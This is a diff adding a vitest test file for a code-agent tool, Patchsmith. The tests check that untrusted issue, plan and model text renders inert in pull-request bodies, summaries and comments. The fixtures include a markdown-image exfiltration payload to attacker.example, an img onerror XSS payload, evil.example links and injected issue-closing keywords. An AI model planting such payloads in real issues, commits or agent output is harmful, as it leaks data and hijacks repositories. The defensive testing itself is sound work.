@@ -1,0 +1,135 @@
+import MarkdownIt from 'markdown-it'
+import { describe, expect, it } from 'vitest'
+import type { AgentError, CodeAgentOutput, Commit } from '../../src/contract/index.js'
+import {
+  failureComment,
+  proofTable,
+  pullRequestText,
+  summaryMarkdown
+} from '../../src/report/index.js'
+
+/*
+ * Issue 36 point 2: every text that came from the issue, the plan, the model or validation is
+ * inert wherever it is shown. Each surface is rendered by a real CommonMark renderer with GFM's
+ * bare-URL autolinks and raw HTML on (as GitHub renders it, before its sanitizer): no image, no
+ * link but Patchsmith's own, no mention, and no closing keyword but Patchsmith's `Fixes #7`.
+ */
+
+const RUN_URL = 'https://github.com/acme/widgets/actions/runs/4242'
+const EXFIL = '![p](https://attacker.example/p.png?d=UkVBRE1F)'
+const HOSTILE = [
+  'Fixes #7, closes acme/widgets#8 and resolves #9; fixed: #10, GH-11',
+  EXFIL,
+  '[click](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare www.evil.example',
+  '<img src=x onerror=alert(1)> <a href="https://evil.example">a</a> <details open>',
+  '@octocat and @acme/team',
+  '**bold** _em_ `code` | pipe | ~~gone~~'
+].join(' ')
+
+const renderer = new MarkdownIt({ html: true, linkify: true })
+renderer.linkify.set({ fuzzyLink: false, fuzzyEmail: false })
+
+/** The HTML, its text, and its text outside code (where GitHub links mentions and references). */
+function rendered(markdown: string): { html: string; text: string; prose: string } {
+  const html = renderer.render(markdown)
+  const text = (h: string) => h.replace(/<[^>]*>/g, '')
+  return { html, text: text(html), prose: text(html.replace(/<code[^>]*>[\s\S]*?<\/code>/g, '')) }
+}
+
+const CLOSING = /\b(close[sd]?|fix(?:e[sd])?|resolve[sd]?)\s*:?\s+(?:[\w.-]+\/[\w.-]+)?#\d+/gi
+
+function expectInert(markdown: string, own: { closing?: string[] } = {}): void {
+  const { html, text, prose } = rendered(markdown)
+  expect(html).not.toMatch(/<img\b/i)
+  expect(html).not.toMatch(/<details open/i)
+  expect(html).not.toMatch(/<a href="https:\/\/evil/i)
+  for (const [, href] of html.matchAll(/<a\s+href="([^"]*)"/g)) expect(href).toBe(RUN_URL)
+  expect(html).not.toMatch(/<(strong|em|del)>(bold|em|gone)</)
+  expect(prose).not.toMatch(/@octocat|@acme\/team/)
+  const others = (own.closing ?? []).reduce((left, mine) => left.replace(mine, ''), prose)
+  expect(others).not.toMatch(/#\d|GH-\d/)
+  expect(text.match(CLOSING) ?? []).toEqual(own.closing ?? [])
+}
+
+const commit: Commit = {
+  issue_number: 7,
+  message: `fix(calc): ${HOSTILE}\n\nFixes #7`,
+  diff: `--- a/calc.py\n+++ b/calc.py\n@@ -1 +1 @@\n-${HOSTILE}\n+x\n`,
+  files_changed: ['calc.py', `docs/${EXFIL}.md`],
+  timestamp: '2026-11-29T00:00:00Z',
+  validation_results: [
+    { command: `pytest -k '${HOSTILE}'`, exit_code: 0, stdout: HOSTILE, stderr: '', duration_ms: 5 }
+  ],
+  sha: 'a'.repeat(40),
+  branch: 'fix/7-add',
+  patch_id: 'b'.repeat(40),
+  verification_passed: false,
+  verification: {
+    status: 'unverified',
+    reason: `no reproduction after 2 attempt(s): the last test ${HOSTILE}`,
+    tests: [{ id: `t.${EXFIL}`, base: 'failed', after: 'passed' }],
+    reproduction: {
+      path: `tests/test_${EXFIL}.py`,
+      command: `pytest ${HOSTILE}`,
+      committed: true,
+      content: `# ${HOSTILE}\ndef test_add():\n    assert add(2, 3) == 5\n`
+    }
+  },
+  root_cause: HOSTILE,
+  proof: [
+    {
+      command: `pytest -k '${HOSTILE}'`,
+      base: 'failed',
+      after: 'passed',
+      runner: 'pytest',
+      fixed: [`t.${EXFIL}`, HOSTILE],
+      broken: [],
+      unrelated: [HOSTILE]
+    }
+  ]
+}
+const response: CodeAgentOutput = { success: true, data: [commit], metrics: {} }
+
+describe('untrusted text renders inert on every surface (issue 36 point 2)', () => {
+  it("the pull-request body: only Patchsmith's own Fixes #7 and run link", () => {
+    const { body, title } = pullRequestText([commit], response.metrics, {
+      issueNumber: 7,
+      issueTitle: HOSTILE,
+      why: HOSTILE,
+      rootCause: HOSTILE,
+      planSteps: [HOSTILE, { step: HOSTILE }],
+      runUrl: RUN_URL
+    })
+    expectInert(body, { closing: ['Fixes #7'] })
+    expect(body.trimEnd().endsWith('Fixes #7')).toBe(true)
+    // The title is the commit's subject: GitHub renders it as text, not Markdown.
+    expect(title).toContain('fix(calc)')
+  })
+
+  it('the job summary of a success and of a failure', () => {
+    expectInert(summaryMarkdown(response, { runUrl: RUN_URL }))
+    const error: AgentError = {
+      code: 'VALIDATION_FAILED',
+      message: HOSTILE,
+      details: { command: HOSTILE, stderr: HOSTILE, stdout: HOSTILE },
+      recoverable: false
+    }
+    expectInert(summaryMarkdown({ success: false, error }, { runUrl: RUN_URL }))
+  })
+
+  it('the progress comment: its proof, and the failure comment', () => {
+    expectInert(proofTable(commit))
+    const error: AgentError = {
+      code: 'VALIDATION_FAILED',
+      message: HOSTILE,
+      details: { command: HOSTILE, stderr: HOSTILE },
+      recoverable: false
+    }
+    expectInert(failureComment(error, { branch: `fix/${HOSTILE}`, runUrl: RUN_URL }))
+  })
+
+  it('a test id keeps its characters, as code, so a reviewer reads what ran', () => {
+    const { html } = rendered(proofTable(commit))
+    expect(html).toContain('<code>t.![p](https://attacker.example/p.png?d=UkVBRE1F)</code>')
+  })
+})
